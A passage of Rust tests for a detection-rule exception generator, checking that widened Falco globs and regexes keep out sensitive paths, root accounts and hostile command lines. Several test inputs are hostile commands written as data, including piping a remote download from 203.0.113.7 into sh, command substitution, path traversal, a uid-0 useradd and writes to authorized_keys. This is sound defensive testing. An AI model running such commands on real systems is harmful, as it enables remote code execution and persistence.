            .any(|g| g.comp == "pmatch" && g.value == ExVal::Many(s(&["/srv/a/x", "/srv/b/y"]))));
        // A broad top-level directory is never the target, nor a persistence or
        // credential directory.
        let g = ladder("fd.name", &s(&["/etc/shadow"]));
        assert_eq!(g.len(), 1, "{:?}", comps(&g));
        for p in [
            "/etc/cron.d/logrotate",
            "/etc/systemd/system/app.service",
            "/home/ops/.ssh/authorized_keys",
            "/etc/sudoers.d/ops",
        ] {
            let g = ladder("fd.name", &s(&[p]));
            assert!(
                g.iter()
                    .all(|g| g.comp != "startswith" && g.comp != "pmatch"),
                "{p}: {:?}",
                comps(&g)
            );
        }
        assert!(has(
            &ladder("fd.name", &s(&["/etc/nginx/conf.d/site.conf"])),
            "fd.name",
            "startswith",
            "/etc/nginx/conf.d/"
        ));
        let g = ladder("fd.name", &s(&["/tmp/tmp.Xa81Kd9q1w"]));
        assert!(has(&g, "fd.name", "glob", "/tmp/tmp.*"), "{:?}", comps(&g));
        assert!(!g.iter().any(|g| g.comp == "startswith"));
    }

    #[test]
    fn executables_glob_generated_build_paths() {
        let g = ladder("proc.exepath", &s(&["/tmp/go-build2871/b001/exe/main"]));
        assert!(
            has(&g, "proc.exepath", "glob", "/tmp/go-build*/b*/exe/main"),
            "{:?}",
            comps(&g)
        );
        assert!(!g.iter().any(|g| g.comp == "startswith"));
    }

    #[test]
    fn network_endpoints_key_on_the_server() {
        // One site server: itself, then its /24 (the same service's next server). One
        // outside server: itself only.
        let g = ladder("fd.sip", &s(&["10.0.3.7"]));
        assert_eq!(
            comps(&g),
            vec![
                ("fd.sip".into(), "=".into(), ExVal::One("10.0.3.7".into())),
                (
                    "fd.snet".into(),
                    "=".into(),
                    ExVal::One("10.0.3.0/24".into())
                )
            ]
        );
        let g = ladder("fd.sip", &s(&["198.51.100.40"]));
        assert_eq!(
            comps(&g),
            vec![(
                "fd.sip".into(),
                "=".into(),
                ExVal::One("198.51.100.40".into())
            )]
        );
        let g = ladder("fd.sip", &s(&["10.0.3.7", "10.0.3.9"]));
        assert!(has(&g, "fd.snet", "=", "10.0.3.0/24"), "{:?}", comps(&g));
        let g = ladder("fd.sip", &s(&["10.0.3.7", "10.0.9.9"]));
        assert!(has(&g, "fd.snet", "=", "10.0.0.0/16"));
        assert!(ladder("fd.sip", &s(&["10.1.3.7", "10.2.9.9"]))
            .iter()
            .all(|g| g.field == "fd.sip"));
        let g = ladder("fd.sport", &s(&["5432"]));
        assert_eq!(g.len(), 1);
        let g = ladder("fd.sip.name", &s(&["db-0.db.prod.svc", "db-1.db.prod.svc"]));
        assert!(
            has(&g, "fd.sip.name", "glob", "db-*.db.prod.svc"),
            "{:?}",
            comps(&g)
        );
        assert!(is_socket_name("10.0.0.5:43122->10.0.3.7:5432"));
        assert!(!is_socket_name("/var/run/x.sock"));
        assert_eq!(kind("fd.cport"), Kind::Exact);
    }

    /// A build tool's generated binary: any name with its extension in the generated
    /// directory (and the command line's first word with it); never for a fixed
    /// directory, a name without an extension, or a shell's program.
    #[test]
    fn generated_binaries_glob_their_name_in_a_generated_directory() {
        assert_eq!(
            generated_binary("/dev/shm/go-build1772003311/b052/queue.test").as_deref(),
            Some("/dev/shm/go-build*/b*/*.test")
        );
        assert_eq!(generated_binary("/tmp/.cache/queue.test"), None);
        assert_eq!(
            generated_binary("/dev/shm/go-build1772003311/b052/main"),
            None
        );
        assert_eq!(
            generated_binary("/tmp/x1/y.test"),
            None,
            "fixed part too short"
        );
        // Directly in /tmp only under the tool's own name (`go-build*`), never mktemp's.
        assert_eq!(
            generated_binary("/tmp/go-build2975530184/b001/ledger.test").as_deref(),
            Some("/tmp/go-build*/b*/*.test")
        );
        assert_eq!(generated_binary("/tmp/tmp.Xa81kQ/b001/ledger.test"), None);
        assert_eq!(generated_binary("/tmp/x81kq2/ledger.test"), None);
        let g = ladder(
            "proc.exepath",
            &s(&["/dev/shm/go-build1772003311/b052/queue.test"]),
        );
        assert!(has(
            &g,
            "proc.exepath",
            "glob",
            "/dev/shm/go-build*/b*/queue.test"
        ));
        assert!(g.iter().any(|g| g.comp == "glob"
            && g.value == ExVal::One("/dev/shm/go-build*/b*/*.test".into())
            && g.level == 2));
        assert_eq!(
            generated_command(
                "queue.test -test.paniconexit0 -test.timeout=10m0s",
                "queue.test"
            )
            .as_deref(),
            Some("* -test.paniconexit* -test.timeout=*")
        );
        // The command line's first word is the kernel's 15-character cut of a long name.
        assert_eq!(
            generated_command("ledger_store.te -test.count=1", "ledger_store.test").as_deref(),
            Some("* -test.count=*")
        );
        assert_eq!(
            generated_command("ledger_store.t -x", "ledger_store.test"),
            None
        );
        assert_eq!(generated_command("worker.test -x", "queue.test"), None);
        assert_eq!(generated_command("sh -c a.test", "sh"), None);
        // Through the engine: the next test binary of the build runs silenced; a binary of
        // that name outside the generated directory, or another kind of file, does not.
        let glob = |pat: &str, v: &str| {
            let mut e = quell_rules::engine::Engine::new();
            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and not proc.exepath glob \"{pat}\"\n  output: o\n  priority: NOTICE\n");
            assert!(e.load("r.yaml", &rules).successful);
            let ev = quell_events::FlatEvent::from_json_line(&format!(
                r#"{{"evt.type":"execve","proc.exepath":"{v}"}}"#
            ))
            .unwrap();
            !e.rule("R").unwrap().matches(&ev)
        };
        let pat = "/dev/shm/go-build*/b*/*.test";
        assert!(glob(pat, "/dev/shm/go-build3001299410/b052/worker.test"));
        assert!(!glob(pat, "/dev/shm/.cache/worker.test"));
        assert!(!glob(pat, "/dev/shm/go-build3001299410/b052/worker.sh"));
    }

    #[test]
    fn pod_names_keep_the_controller_prefix() {
        let one = |v: &str| controller_prefix(&[v].into_iter().collect());
        assert_eq!(one("web-7d9f8c6b5-x2x9k").as_deref(), Some("web-"));
        assert_eq!(
            one("payments-api-7d9f8c6b5-x2x9k").as_deref(),
            Some("payments-api-")
        );
        assert_eq!(one("fluent-bit-4xk2p").as_deref(), Some("fluent-bit-"));
        assert_eq!(one("postgres-0").as_deref(), Some("postgres-"));
        assert_eq!(one("backup-28731540-qz8rt").as_deref(), Some("backup-"));
        assert_eq!(one("nginx"), None);
        assert_eq!(one("my-service"), None);
        // Pods per user or instance, no generated suffix: the name's first part, at the
        // widest level only (after the values seen).
        let inst = |v: &[&str]| instance_prefix(&v.iter().copied().collect());
        assert_eq!(inst(&["jupyter-maria"]).as_deref(), Some("jupyter-"));
        assert_eq!(
            inst(&["jupyter-maria", "jupyter-kenji"]).as_deref(),
            Some("jupyter-")
        );
        assert_eq!(inst(&["my-service"]), None, "a word too short to be a kind");
        assert_eq!(inst(&["nginx"]), None);
        assert_eq!(inst(&["jupyter-maria", "notebook-kenji"]), None);
        let g = ladder("k8s.pod.name", &s(&["jupyter-maria"]));
        assert_eq!(g[0].comp, "=");
        assert!(g.iter().any(|g| g.comp == "startswith"
            && g.value == ExVal::One("jupyter-".into())
            && g.level == 2));
        // A controller's pod keeps its controller prefix, not this one; and the prefix is
        // its narrowest rung: no exception names one replica (session 21).
        let g = ladder("k8s.pod.name", &s(&["web-7d9f8c6b5-x2x9k"]));
        assert!(!g.iter().any(|g| g.level == 2), "{g:?}");
        for (pod, prefix) in [
            ("web-7d9f8c6b5-x2x9k", "web-"),
            ("historian-0", "historian-"),
            ("debugger-x7k2p", "debugger-"),
        ] {
            let g = ladder("k8s.pod.name", &s(&[pod]));
            assert_eq!(g[0].comp, "startswith", "{pod}: {g:?}");
            assert_eq!(g[0].value, ExVal::One(prefix.into()), "{pod}: {g:?}");
            assert_eq!(g[0].level, 0, "{pod}: {g:?}");
            assert!(!g.iter().any(|g| g.comp == "="), "{pod}: {g:?}");
        }
        let g = ladder(
            "k8s.pod.name",
            &s(&["web-7d9f8c6b5-x2x9k", "web-7d9f8c6b5-abcde"]),
        );
        assert!(has(&g, "k8s.pod.name", "startswith", "web-"));
        // Two controllers: no prefix.
        assert!(controller_prefix(
            &["web-7d9f8c6b5-x2x9k", "api-7d9f8c6b5-x2x9k"]
                .into_iter()
                .collect()
        )
        .is_none());
    }

    /// A shell's program widens only by the files of its directories (and a home's owner,
    /// a digit run), never by a blank or a shell metacharacter: checked through the engine.
    #[test]
    fn paths_take_another_file_of_their_family() {
        // A package manager's log: its other logs, never the security records.
        let g = ladder("fd.name", &s(&["/var/log/dpkg.log"]));
        let fam = g
            .iter()
            .find(|g| g.comp == "pmatch")
            .unwrap_or_else(|| panic!("{:?}", comps(&g)));
        let ExVal::Many(list) = &fam.value else {
            panic!("{fam:?}")
        };
        assert!(list.contains(&"/var/log/alternatives.log".to_string()));
        assert!(list.contains(&"/var/log/apt".to_string()));
        assert!(!list
            .iter()
            .any(|p| p.contains("auth") || p.contains("wtmp")));
        // Two files of different families share none.
        let g = ladder("fd.name", &s(&["/var/log/dpkg.log", "/var/log/syslog"]));
        assert!(!g.iter().any(|g| g.comp == "pmatch"), "{:?}", comps(&g));
        // A home's start-up files: one glob row per home shape and file of that shell.
        let g = ladder("fd.name", &s(&["/home/ana/.bashrc", "/root/.profile"]));
        let rows = g
            .iter()
            .find(|g| g.comp == "glob" && matches!(&g.value, ExVal::Many(v) if v.len() == 10))
            .unwrap_or_else(|| panic!("{:?}", comps(&g)));
        let ExVal::Many(rows) = &rows.value else {
            unreachable!()
        };
        assert!(rows.contains(&"/home/*/.bash_logout".to_string()));
        assert!(rows.contains(&"/root/.bashrc".to_string()));
        assert!(!rows.iter().any(|r| r.contains("zsh")));
        // Sudoers and PAM drop-ins, and persistence places, have no family.
        for p in [
            "/etc/sudoers.d/ops",
            "/etc/pam.d/sshd",
            "/etc/cron.d/backup",
            "/var/log/auth.log",
        ] {
            let g = ladder("fd.name", &s(&[p]));
            assert!(
                !g.iter()
                    .any(|g| g.comp == "pmatch" || matches!(g.value, ExVal::Many(_))),
                "{p}: {:?}",
                comps(&g)
            );
        }
        assert!(same_family("/var/log/apt/history.log", "/var/log/dpkg.log"));
        assert!(same_family("/home/a/.zshrc", "/root/.zlogin"));
        assert!(!same_family("/home/a/.zshrc", "/home/a/.bashrc"));
        assert!(!same_family("/var/log/syslog", "/var/log/auth.log"));
        assert!(!same_family("/var/log/syslogx", "/var/log/syslog"));
    }

    #[test]
    fn shell_programs_take_another_file_of_the_same_directory() {
        let rx = shell_program_regex;
        assert_eq!(
            rx("sh -c /fluentd/scripts/nvme_smart.sh").as_deref(),
            Some("sh -c /fluentd/scripts/[A-Za-z0-9_-]+[.]sh")
        );
        assert_eq!(
            rx("sh -c gzip -c > /var/lib/postgresql/exports/orders_2026-11-05.csv.gz").as_deref(),
            Some("sh -c gzip -c > /var/lib/postgresql/exports/[A-Za-z0-9_-]+[.]csv[.]gz")
        );
        assert_eq!(
            rx("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce").as_deref(),
            Some("sh -c formail -ds >> /home/[A-Za-z0-9_-]+/Mail/lists/[A-Za-z0-9_-]+")
        );
        // A segment number elsewhere in the program varies too (a WAL archive command).
        let p = rx("sh -c test ! -f /mnt/wal-archive/000000010000000000000042 && cp pg_wal/000000010000000000000042 /mnt/wal-archive/000000010000000000000042").unwrap();
        assert_eq!(
            p,
            "sh -c test ! -f /mnt/wal-archive/[A-Za-z0-9_-]+ && cp pg_wal/[A-Za-z0-9]+ /mnt/wal-archive/[A-Za-z0-9_-]+"
        );
        // A rotation number in a file's extension takes the next rotation.
        assert_eq!(
            rx("sh -c /bin/gzip -dc /var/log/apache2/access.log.2.gz").as_deref(),
            Some("sh -c /bin/gzip -dc /var/log/apache2/[A-Za-z0-9_-]+[.]log[.][0-9]+[.]gz")
        );
        // A URL: another file of the same directory on the same server.
        assert_eq!(
            rx("sh -c curl -s https://feeds.example.com/daily/fx.csv").as_deref(),
            Some("sh -c curl -s https://feeds[.]example[.]com/daily/[A-Za-z0-9_-]+[.]csv")
        );
        assert_eq!(
            rx("sh -c curl -s https://feeds.example.com/fx.csv?k=a"),
            None
        );
        // Broad and sensitive directories stay literal: nothing widens, no regex.
        assert_eq!(rx("sh -c /usr/local/bin/check.sh"), None);
        assert_eq!(rx("sh -c cp x /etc/cron.d/job"), None);
        assert_eq!(rx("sh -c cat /root/.ssh/id_rsa"), None);
        assert_eq!(
            rx("gzip -c /var/lib/pg/exports/a.csv"),
            None,
            "not a shell program"
        );
        assert_eq!(
            rx("sh -c echo [x] /srv/app/data/a.txt"),
            None,
            "a class cannot carry it"
        );
        // Through the engine: the next script of the directory is taken; a chained or
        // substituted command, another directory or a traversal is not.
        let m = |pat: &str, v: &str| {
            let mut e = quell_rules::engine::Engine::new();
            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and proc.cmdline regex \"{pat}\"\n  output: o\n  priority: NOTICE\n");
            assert!(e.load("r.yaml", &rules).successful, "{pat}");
            let ev = quell_events::FlatEvent::from_json_line(
                &serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string(),
            )
            .unwrap();
            e.rule("R").unwrap().matches(&ev)
        };
        let p = rx("sh -c /fluentd/scripts/nvme_smart.sh").unwrap();
        assert!(m(&p, "sh -c /fluentd/scripts/iostat_collect.sh"));
        assert!(!m(
            &p,
            "sh -c /fluentd/scripts/x.sh; curl -s http://203.0.113.7/x | sh"
        ));
        assert!(!m(&p, "sh -c /fluentd/scripts/$(curl 203.0.113.7).sh"));
        assert!(!m(&p, "sh -c /fluentd/scripts/../../tmp/x.sh"));
        assert!(!m(&p, "sh -c /tmp/scripts/x.sh"));
        assert!(!m(&p, "sh -c /fluentd/scriptsXx.sh"));
        let p = rx("sh -c curl -s https://feeds.example.com/daily/fx.csv").unwrap();
        assert!(m(
            &p,
            "sh -c curl -s https://feeds.example.com/daily/ir.csv"
        ));
        assert!(!m(&p, "sh -c curl -s https://203.0.113.7/daily/ir.csv"));
        assert!(!m(
            &p,
            "sh -c curl -s https://feeds.example.com.evil.net/daily/ir.csv"
        ));
        assert!(!m(
            &p,
            "sh -c curl -s https://feeds.example.com/daily/x.csv | sh"
        ));
        let p = rx("sh -c /bin/gzip -dc /var/log/apache2/access.log.2.gz").unwrap();
        assert!(m(
            &p,
            "sh -c /bin/gzip -dc /var/log/apache2/access.log.13.gz"
        ));
        assert!(!m(
            &p,
            "sh -c /bin/gzip -dc /var/log/apache2/access.log.x.gz"
        ));
        let p = rx("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce").unwrap();
        assert!(m(&p, "sh -c formail -ds >> /home/bob/Mail/lists/db-oncall"));
        assert!(!m(
            &p,
            "sh -c formail -ds >> /home/bob/.ssh/authorized_keys"
        ));
        let l = ladder(
            "proc.cmdline",
            &s(&["sh -c /fluentd/scripts/nvme_smart.sh"]),
        );
        assert!(l.iter().any(|g| g.comp == "regex" && g.level == 2), "{l:?}");
    }

    /// What synthesis emits as a `regex` compiles in Falco too: RE2's POSIX syntax, with
    /// no Perl extension (`(?:`, `\d`, lazy repetitions) that quell's own engine would
    /// accept. Every pattern the regex kinds build is within it.
    #[test]
    fn emitted_regexes_stay_within_falcos_posix_syntax() {
        for bad in [
            "(?:a|b)", "(?i)abc", "a\\d+", "a*?", "a+?b", "[a-z", "(ab", "ab)", "*a", "(|*a)", "",
        ] {
            assert!(!falco_regex(bad), "{bad}");
        }
        for good in [
            "sh -c /srv/[A-Za-z0-9_-]+[.]sh",
            "x a(b|c)d",
            "x[]]y",
            "[^]a]+z",
        ] {
            assert!(falco_regex(good), "{good}");
        }
        let built = [
            shell_program_regex("sh -c /fluentd/scripts/nvme_smart.sh"),
            shell_program_regex("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce"),
            shell_program_regex("sh -c test ! -f /mnt/wal-archive/000000010000000000000042 && cp pg_wal/000000010000000000000042 /mnt/wal-archive/000000010000000000000042"),
            account_regex("useradd -m -s /bin/bash -p * rtanaka"),
            account_regex("gpasswd -a rtanaka google-sudoers"),
            account_regex("crontab -u app /tmp/__salt.tmp.w3kq9z1t"),
            account_regex("useradd -s /bin/bash -m -d /home/kmori kmori"),
        ];
        for r in built {
            let r = r.expect("built");
            assert!(falco_regex(&r), "{r}");
        }
        // And the ladder never offers one outside it.
        for v in [
            "useradd -m -s /bin/bash -p * rtanaka",
            "sh -c /fluentd/scripts/nvme_smart.sh",
        ] {
            let l = ladder("proc.cmdline", &s(&[v]));
            assert!(l.iter().any(|g| g.comp == "regex"), "{v}: {l:?}");
            for g in l.iter().filter(|g| g.comp == "regex") {
                assert!(matches!(&g.value, ExVal::One(r) if falco_regex(r)), "{g:?}");
            }
        }
    }

    /// A versioned directory in a shell's program takes the next version
    /// (`/etc/postgresql/16/main` → `/etc/postgresql/17/main`), never another directory or
    /// a chained command. Checked through the engine.
    #[test]
    fn versioned_directories_take_another_version() {
        assert!(version_component("16"));
        assert!(version_component("3.11"));
        assert!(version_component("v2.4.1"));
        assert!(!version_component("python3.11"));
        assert!(!version_component("main"));
        assert!(!version_component("20261105"), "a date, not a version");
        let p = shell_program_regex(
            "sh -c /usr/local/sbin/pg-tls-passphrase /etc/postgresql/16/main/server.key",
        )
        .unwrap();
        assert_eq!(
            p,
            "sh -c /usr/local/sbin/[A-Za-z0-9_-]+ /etc/postgresql/[0-9]+([.][0-9]+)*/main/[A-Za-z0-9_-]+[.]key"
        );
        assert!(falco_regex(&p), "{p}");
        let m = |v: &str| {
            let mut e = quell_rules::engine::Engine::new();
            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and proc.cmdline regex \"{p}\"\n  output: o\n  priority: NOTICE\n");
            assert!(e.load("r.yaml", &rules).successful, "{p}");
            let ev = quell_events::FlatEvent::from_json_line(
                &serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string(),
            )
            .unwrap();
            e.rule("R").unwrap().matches(&ev)
        };
        assert!(m(
            "sh -c /usr/local/sbin/pg-tls-passphrase /etc/postgresql/17/main/server.key"
        ));
        assert!(m(
            "sh -c /usr/local/sbin/pg-tls-passphrase /etc/postgresql/9.6/main/server.key"
        ));
        assert!(!m(
            "sh -c /usr/local/sbin/pg-tls-passphrase /etc/postgresql/x/main/server.key"
        ));
        assert!(!m("sh -c /usr/local/sbin/pg-tls-passphrase /etc/postgresql/16/../../shadow/main/server.key"));
        assert!(!m(
            "sh -c /usr/local/sbin/pg-tls-passphrase /etc/postgresql/16/main/server.key; id"
        ));
    }

    /// Command lines of several shapes widen each along its own (an account tool's line,
    /// a shell's program), one exception row per shape; a value with no shape of its own
    /// stays itself, as a literal pattern.
    #[test]
    fn several_command_shapes_are_one_pattern_each() {
        let g = ladder(
            "proc.cmdline",
            &s(&[
                "useradd -m -s /bin/bash -p * rtanaka",
                "gpasswd -a rtanaka google-sudoers",
                "id -u rtanaka",
            ]),
        );
        let pats = g
            .iter()
            .find_map(|g| match (&g.value, g.comp.as_str()) {
                (ExVal::Many(v), "regex") => Some(v.clone()),
                _ => None,
            })
            .expect("one regex per shape");
        assert_eq!(pats.len(), 3, "{pats:?}");
        assert!(pats.contains(&"id -u rtanaka".to_string()), "{pats:?}");
        let m = |pat: &str, v: &str| {
            let mut e = quell_rules::engine::Engine::new();
            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and proc.cmdline regex \"{pat}\"\n  output: o\n  priority: NOTICE\n");
            assert!(e.load("r.yaml", &rules).successful, "{pat}");
            let ev = quell_events::FlatEvent::from_json_line(
                &serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string(),
            )
            .unwrap();
            e.rule("R").unwrap().matches(&ev)
        };
        let any = |v: &str| pats.iter().any(|p| m(p, v));
        assert!(any("gpasswd -a mgarcia google-sudoers"));
        assert!(any("useradd -m -s /bin/bash -p * mgarcia"));
        assert!(any("id -u rtanaka"));
        assert!(!any("id -u mgarcia"), "a literal stays literal");
        assert!(!any("gpasswd -a root google-sudoers"));
        assert!(!any("gpasswd -a mgarcia sudo"));
        for p in &pats {
            assert!(falco_regex(p), "{p}");
        }
        // Nothing widened at all: no pattern rung.
        let g = ladder("proc.cmdline", &s(&["id -u rtanaka", "id -g rtanaka"]));
        assert!(!g.iter().any(|g| g.comp == "regex"), "{g:?}");
    }

    /// An account tool's account argument takes any account but `root`; its options stay
    /// literal. Checked through the engine.
    #[test]
    fn account_tools_take_another_account_never_root() {
        let r = account_regex("useradd -m -s /bin/bash -p * rtanaka").unwrap();
        assert!(r.starts_with("useradd -m -s /bin/bash -p [*] ([a-q"), "{r}");
        assert!(falco_regex(&r), "{r}");
        assert_eq!(account_regex("tar czf /x.tgz /etc"), None);
        assert_eq!(account_regex("sh -c useradd bob"), None);
        let m = |pat: &str, v: &str| {
            let mut e = quell_rules::engine::Engine::new();
            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and proc.cmdline regex \"{pat}\"\n  output: o\n  priority: NOTICE\n");
            assert!(e.load("r.yaml", &rules).successful, "{pat}");
            let ev = quell_events::FlatEvent::from_json_line(
                &serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string(),
            )
            .unwrap();
            e.rule("R").unwrap().matches(&ev)
        };
        assert!(m(&r, "useradd -m -s /bin/bash -p * mgarcia"));
        assert!(m(&r, "useradd -m -s /bin/bash -p * rob"));
        assert!(m(&r, "useradd -m -s /bin/bash -p * rootkit"));
        assert!(!m(&r, "useradd -m -s /bin/bash -p * root"));
        assert!(!m(&r, "useradd -m -s /bin/bash -p * -o -u 0 mgarcia"));
        assert!(!m(&r, "useradd -m -s /bin/bash -p * bob;id"));
        let r = account_regex("gpasswd -a rtanaka google-sudoers").unwrap();
        assert!(m(&r, "gpasswd -a mgarcia google-sudoers"));
        assert!(!m(&r, "gpasswd -a root google-sudoers"));
        assert!(!m(&r, "gpasswd -a mgarcia sudo"));
        let r = account_regex("crontab -u app /tmp/__salt.tmp.w3kq9z1t").unwrap();
        assert!(m(&r, "crontab -u backup /tmp/__salt.tmp.a8xk2m0q"), "{r}");
        assert!(!m(&r, "crontab -u root /tmp/__salt.tmp.a8xk2m0q"));
        let r = account_regex("useradd -s /bin/bash -m -d /home/kmori kmori").unwrap();
        assert!(
            m(&r, "useradd -s /bin/bash -m -d /home/psantos psantos"),
            "{r}"
        );
        assert!(!m(&r, "useradd -s /bin/bash -m -d /root root"));
    }

    /// Pods of the same controller in another run: a Job's or a CI runner's run id inside
    /// the controller's prefix is generated too (`rust-build-8f2kd-m2v8c`), so the widest
    /// rung globs every generated segment and keeps the words.
    #[test]
    fn pod_names_of_another_run_glob_their_generated_segments() {
        let pg = |v: &[&str]| pod_glob(&v.iter().copied().collect());
        assert_eq!(
            pg(&["runner-p2s7dk1-project-88-concurrent-0-w8e7r"]).as_deref(),
            Some("runner-*-project-*-concurrent-*-*")
        );
        assert_eq!(pg(&["web-e2e-4f5g6-ab1cd"]).as_deref(), Some("web-e2e-*-*"));
        assert_eq!(pg(&["nginx"]), None, "nothing generated");
        assert_eq!(pg(&["12-34"]), None, "no word kept");
        assert_eq!(pg(&["web-e2e-4f5g6-ab1cd", "api-e2e-4f5g6-ab1cd"]), None);
        // Only where the controller's prefix itself holds a generated segment.
        let g = ladder("k8s.pod.name", &s(&["rust-build-8f2kd-m2v8c"]));
        assert!(has(&g, "k8s.pod.name", "startswith", "rust-build-8f2kd-"));
        assert!(g.iter().any(|g| g.comp == "glob"
            && g.value == ExVal::One("rust-build-*-*".into())
            && g.level == 2));
        let g = ladder("k8s.pod.name", &s(&["web-7d9f8c6b5-x2x9k"]));
        assert!(!g.iter().any(|g| g.comp == "glob"), "{g:?}");
        // Through the engine: another run's pod is taken, another controller's is not.
        let m = |pat: &str, v: &str| {
            let mut e = quell_rules::engine::Engine::new();
            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and k8s.pod.name glob \"{pat}\"\n  output: o\n  priority: NOTICE\n");
            assert!(e.load("r.yaml", &rules).successful);
            let ev = quell_events::FlatEvent::from_json_line(&format!(
                r#"{{"evt.type":"execve","k8s.pod.name":"{v}"}}"#
            ))
            .unwrap();
            e.rule("R").unwrap().matches(&ev)
        };
        assert!(m("rust-build-*-*", "rust-build-3kq7w-m2v8c"));
        assert!(!m("rust-build-*-*", "rust-bench-3kq7w-m2v8c"));
        assert!(m(
            "runner-*-project-*-concurrent-*-*",
            "runner-p2s7dk1-project-91-concurrent-0-w8e7r"
        ));
    }

    /// A parent or ancestor under one distribution's name widens to the same program's
    /// other names, and a web server account to every distribution's name for it; other
    /// names and accounts do not widen, nor does the process's own name.
    #[test]
    fn one_program_and_one_account_under_each_distributions_name() {
        let names = |g: &[Gen], f: &str| -> Option<Vec<String>> {
            g.iter().find_map(|g| match (&g.value, g.comp.as_str()) {
                (ExVal::Many(v), "in") if g.field == f && g.level == 1 => Some(v.clone()),
                _ => None,
            })
        };
        let g = ladder("proc.pname", &s(&["httpd"]));
        assert_eq!(names(&g, "proc.pname"), Some(s(&["httpd", "apache2"])));
        let g = ladder("proc.aname[2]", &s(&["crond"]));
        assert_eq!(
            names(&g, "proc.aname[2]"),
            Some(s(&["cron", "crond", "cronie"]))
        );
        let g = ladder("user.name", &s(&["apache", "www-data"]));
        assert_eq!(
            names(&g, "user.name"),
            Some(s(&["www-data", "apache", "http", "wwwrun"]))
        );
        for (f, v) in [
            ("proc.pname", "bash"),
            ("proc.name", "httpd"),
            ("user.name", "deploy"),
        ] {
            assert_eq!(names(&ladder(f, &s(&[v])), f), None, "{f}={v}");
        }
        // Two programs' names are no one program.
        assert_eq!(
            names(&ladder("proc.pname", &s(&["httpd", "cron"])), "proc.pname"),
            None
        );
    }

    #[test]
    fn command_lines_keep_the_script_or_subcommand() {
        let g = ladder(
            "proc.cmdline",
            &s(&["pg_archivecleanup /var/lib/pg/wal 000000010000000A00000042"]),
        );
        assert!(
            has(
                &g,
                "proc.cmdline",
                "glob",
                "pg_archivecleanup /var/lib/pg/wal *"
            ),
            "{:?}",
            comps(&g)
        );
        let g = ladder(
            "proc.cmdline",
            &s(&["python3 /opt/jobs/rotate.py --date 2024-01-05"]),
        );
        assert!(
            has(
                &g,
                "proc.cmdline",
                "glob",
                "python* /opt/jobs/rotate.py --date *-*-*"
            ),
            "{:?}",
            comps(&g)
        );
        assert!(
            has(&g, "proc.cmdline", "glob", "python* /opt/jobs/rotate.py *"),
            "{:?}",
            comps(&g)
        );
        let g = ladder(
            "proc.cmdline",
            &s(&["java -cp /app/lib/* com.example.Cleanup --keep 7"]),
        );
        assert!(g.iter().any(|g| matches!(&g.value, ExVal::One(v) if v.contains("com.example.Cleanup") && v.ends_with(" *"))), "{:?}", comps(&g));
        // Never the tool with any arguments.
        let g = ladder("proc.cmdline", &s(&["strace -f -p 40912 -e trace=network"]));
        assert!(
            !has(&g, "proc.cmdline", "glob", "strace *"),
            "{:?}",
            comps(&g)
        );
        // A command naming a URL keeps the URL's server: the next file from the same
        // server, never any server.
        let g = ladder(
            "proc.cmdline",
            &s(&["curl -sSL -o /tmp/scanner.zip https://binaries.example.com/cli/cli-6.2.1-linux-x64.zip"]),
        );
        assert!(
            has(
                &g,
                "proc.cmdline",
                "glob",
                "curl -sSL -o /tmp/scanner.zip https://binaries.example.com/*"
            ),
            "{:?}",
            comps(&g)
        );
        assert!(
            !has(
                &g,
                "proc.cmdline",
                "glob",
                "curl -sSL -o /tmp/scanner.zip *"
            ),
            "{:?}",
            comps(&g)
        );
        let g = ladder(
            "proc.cmdline",
            &s(&[
                "wget -qO- http://127.0.0.1:8080/healthz",
                "wget -qO- http://127.0.0.1:8080/metrics",
            ]),
        );
        // Two servers (or ports): one row each, each through its own server.
        let g2 = ladder(
            "proc.cmdline",
            &s(&[
                "wget -qO- http://127.0.0.1:8080/healthz",
                "wget -qO- http://127.0.0.1:9090/metrics",
            ]),
        );
        assert!(
            g2.iter().any(|g| g.comp == "glob"
                && g.value
                    == ExVal::Many(vec![
                        "wget -qO- http://127.0.0.1:8080/*".into(),
                        "wget -qO- http://127.0.0.1:9090/*".into()
                    ])),
            "{:?}",
            comps(&g2)
        );
        assert!(
            has(
                &g,
                "proc.cmdline",
                "glob",
                "wget -qO- http://127.0.0.1:8080/*"
            ),
            "{:?}",
            comps(&g)
        );
        let g = ladder("proc.cmdline", &s(&["tar czf /backup/etc.tgz /etc"]));
        assert!(
            has(&g, "proc.cmdline", "glob", "tar czf *"),
            "{:?}",
            comps(&g)
        );
        // Never for an interpreter: its script stays.
        let g = ladder("proc.cmdline", &s(&["python3 -u /opt/app/job.py --x 1"]));
        assert!(
            has(&g, "proc.cmdline", "glob", "python* -u /opt/app/job.py *"),
            "{:?}",
            comps(&g)
        );
        let g = ladder("proc.cmdline", &s(&["kubectl rollout restart deploy/web"]));
        assert!(
            has(&g, "proc.cmdline", "glob", "kubectl rollout *"),
            "{:?}",
            comps(&g)
        );
        assert_eq!(
            command_words(&["python3", "-u", "-m", "app.worker", "--x"]),
            4
        );
        assert_eq!(command_words(&["sh", "-c", "tar", "czf"]), 3);
        // A number is an option's value, not a subcommand: no glob takes the tool with
        // any arguments after a pid or a count.
        assert_eq!(
            command_words(&["gdb", "-p", "48211", "-batch", "-ex", "bt"]),
            6
        );
        assert_eq!(command_words(&["tail", "-n", "100", "/var/log/app.log"]), 4);
        let g = ladder(
            "proc.cmdline",
            &s(&["gdb -p 48211 -batch -ex thread apply all bt"]),
        );
        assert!(
            !g.iter()
                .any(|g| matches!(&g.value, ExVal::One(v) if v.starts_with("gdb -p * *"))),
            "{:?}",
            comps(&g)
        );
        let g = ladder("proc.cmdline", &s(&["tail -n 100 /var/log/app.log"]));
        assert!(
            !g.iter()
                .any(|g| matches!(&g.value, ExVal::One(v) if v.ends_with(" *"))),
            "{:?}",
            comps(&g)
        );
        assert!(
            is_interpreter("python3.11")
                && is_interpreter("/usr/bin/php8.2")
                && is_interpreter("bash")
        );
